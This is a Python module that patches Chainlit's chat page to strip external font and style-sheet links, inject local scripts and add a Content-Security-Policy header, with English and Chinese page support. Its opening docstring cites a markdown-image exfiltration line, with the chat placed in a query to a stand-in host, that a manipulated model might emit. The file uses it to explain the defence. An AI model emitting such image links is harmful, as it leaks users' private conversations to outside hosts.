"""The page as Steward serves it: nothing comes from another host, and it speaks English or Chinese.

Chainlit's built page asks Google for fonts and a public mirror for KaTeX's style sheet, which an internal network cannot
reach and a private chat should not call. Neither can be turned off by configuration alone, so the page is rewritten each
time it is rendered; the installed package stays as it is. A Content-Security-Policy in its header then holds the browser to
it, also for an image address in an answer: a model that was talked into `![](https://elsewhere/?q=<the chat>)` cannot send it
anywhere.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Literal

from chainlit.config import ChainlitConfig
from starlette.responses import HTMLResponse

from i18n.catalogue import Locale, locale_of, translate
from patching import PatchError

Language = Literal["en-US", "zh-CN"]
LANGUAGES: dict[Locale, Language] = {"en": "en-US", "zh": "zh-CN"}

CHARSET = '<meta charset="UTF-8" />'

_KATEX = re.compile(r'href="https://[^"]*/katex(?:\.min)?\.css"')
_FOREIGN_LINK = re.compile(r"""<link\b[^>]*\bhref=["'](?:https?:)?//[^>]*>\s*""")


def page_language(tag: str) -> Language:
    """The page's language, as Chainlit names its translations, for a browser's language tag (BCP 47)."""
    return LANGUAGES[locale_of(tag)]


def local_page(html: str, root_path: str, addresses: Mapping[str, str]) -> str:
    """Chainlit's rendered page with every foreign address removed, and our scripts in its head.

    `root_path` is a reverse proxy's prefix, or empty; `addresses` are those to replace, without it
    (`web/assets/page_assets.py`). Raises `PatchError` where the page is not as expected: it would be served without our
    scripts, and nobody would notice.
    """
    root = root_path.rstrip("/")
    public = f"{root}/public"
    html = _KATEX.sub(f'href="{public}/katex/katex.min.css"', html)
    html = _FOREIGN_LINK.sub("", html)
    if html.count(CHARSET) != 1:
        raise PatchError(
            f"Chainlit's page has no {CHARSET} to put Steward's head behind. Run `make setup` for the locked versions."
        )
    # The first script before the style sheets: the page is painted first in the browser's own theme, not white and then dark.
    # The module before Chainlit's, which must find `fetch` and `WebSocket` wrapped.
    scripts = [
        f'<script src="{public}/first-paint.js"></script>',
        f'<script type="module" src="{public}/page/main.js"></script>',
    ]
    html = html.replace(CHARSET, "\n    ".join([CHARSET, *scripts]), 1)
    for path, address in addresses.items():
        if html.count(f'"{root}/{path}"') != 1:
            raise PatchError(f"Chainlit's page does not load {path} once. Run `make setup` for the locked versions.")
        html = html.replace(f'"{root}/{path}"', f'"{root}/{address}"')
    return html


def readme(root: str, language: str) -> str | None:
    """The page's readme in `page_language(language)`, read from the folder `root`; None where there is no file."""
    path = Path(root) / ("chainlit_zh-CN.md" if page_language(language) == "zh-CN" else "chainlit.md")
    return path.read_text(encoding="utf-8") if path.is_file() else None


def html_template(render: Callable[[str], str], addresses: Mapping[str, str]) -> Callable[[str], str]:
    """For `chainlit.server.get_html_template`, which is `render`. `addresses` are those to replace in the page."""

    def get_html_template(root_path: str) -> str:
        return local_page(render(root_path), root_path, addresses)

    return get_html_template


def html_response(policy: Callable[[str], str]) -> type[HTMLResponse]:
    """For `chainlit.server.HTMLResponse`, which sends the rendered page: with `policy(html)` in its header.

    A browser asks for it anew each time, as it holds the versions of what it loads.

    Made for each page: the hashes of its inline scripts change with `public/theme.json`.
    """

    class PageResponse(HTMLResponse):
        def __init__(self, content: str, status_code: int = 200) -> None:
            super().__init__(content, status_code, {"content-security-policy": policy(content), "cache-control": "no-cache"})

    return PageResponse


def load_translation(load: Callable[..., dict[str, Any]], guests: bool) -> Callable[..., dict[str, Any]]:
    """For `ChainlitConfig.load_translation`, which is `load`. With `guests`, signing out is called what it is for them."""

    def load_translation(config: ChainlitConfig, language: str) -> dict[str, Any]:
        texts = load(config, page_language(language))
        if guests:
            texts["navigation"]["user"]["menu"]["logout"] = translate("guest.forget", language)
        return texts

    return load_translation
